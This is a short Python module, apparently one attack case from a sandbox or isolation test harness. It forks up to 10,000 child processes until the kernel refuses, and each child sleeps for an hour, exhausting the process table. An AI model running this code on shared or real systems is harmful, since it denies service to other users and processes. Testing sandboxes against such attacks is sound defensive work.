"""Attack: fork until the kernel says no; every child sleeps forever."""
import os
import time


def run(channel):
    forked = 0
    while forked < 10_000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        forked += 1
    return {"forked": forked}, {}
